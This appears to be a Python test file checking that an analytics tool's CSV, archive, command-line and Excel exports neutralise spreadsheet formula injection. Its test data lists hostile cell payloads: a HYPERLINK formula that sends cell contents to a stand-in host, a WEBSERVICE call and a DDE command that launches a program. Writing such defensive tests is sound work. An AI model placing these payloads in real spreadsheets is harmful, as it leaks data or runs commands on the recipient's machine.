"""Text from spreadsheets never leaves as a formula: every writer of tables, with cells that would run something."""

from __future__ import annotations

import io
import zipfile
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from csp_analytics.charts.exhibit import table_csv
from csp_analytics.cli.output import show
from csp_analytics.exports import tidy as tidy_module
from csp_analytics.exports.sheet import Sheet
from csp_analytics.exports.workbook import Contents, workbook

LIVE = [
    '=HYPERLINK("https://elsewhere.example/?"&A1,"look")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
TABLE = pd.DataFrame({"Area": LIVE, "Score": range(len(LIVE)), "=1+1": LIVE})


def cells_of(csv: str) -> list[object]:
    read = pd.read_csv(io.StringIO(csv), dtype=str, keep_default_na=False)
    return [*read.columns, *read.to_numpy().ravel()]


def begins_a_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_table_below_a_chart():
    text = table_csv(TABLE, {"About": LIVE[0]}, LIVE[0]).decode("utf-8-sig")
    cells = cells_of(text)
    assert [one for one in cells if begins_a_formula(one) and one != LIVE[0]] == []
    assert sum(str(one).startswith("'=HYPERLINK") for one in cells) >= 2


def test_the_tables_behind_a_report(monkeypatch):
    monkeypatch.setattr(tidy_module, "COLUMNS", dict.fromkeys(TABLE.columns, "a column"))
    report = SimpleNamespace(title="t", finding="f", about={}, demo=False)
    made = tidy_module.tidy(report, {"ranks": TABLE.drop(columns="=1+1")}, stamp="s")
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        cells = cells_of(archive.read("ranks.csv").decode("utf-8-sig"))
        parquet = pd.read_parquet(io.BytesIO(archive.read("ranks.parquet")))
    assert not any(map(begins_a_formula, cells))
    assert "'=WEBSERVICE(A1)" in cells
    assert parquet["Area"].tolist() == LIVE  # no spreadsheet runs what is in it: it holds what was written


def test_the_command_line(capsys):
    show(TABLE.drop(columns="=1+1"), "csv")
    assert not any(map(begins_a_formula, cells_of(capsys.readouterr().out)))


def test_the_workbook_of_a_page():
    made = workbook(
        Contents(LIVE[0], LIVE[1], [Sheet("Ranks", TABLE, LIVE[0], LIVE[1])], {"Area": LIVE[0]}, "s", False)
    )
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name]
        links = [archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels")]
    assert not any("<f>" in one or "<f " in one for one in sheets)
    assert not any("elsewhere.example" in one for one in links)
    book = openpyxl.load_workbook(io.BytesIO(made))
    held = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in held if begins_a_formula(cell.value)} == {"s"}
    assert sum(str(cell.value).lstrip("'").startswith("=HYPERLINK") for cell in held) >= 3


@pytest.mark.parametrize("value", LIVE)
def test_an_apostrophe_is_all_that_is_added(value):
    text = table_csv(pd.DataFrame({"Area": [value]}), {}, "basis").decode("utf-8-sig")
    assert cells_of(text)[2].lstrip("'").strip() in value or value.strip() in cells_of(text)[2]
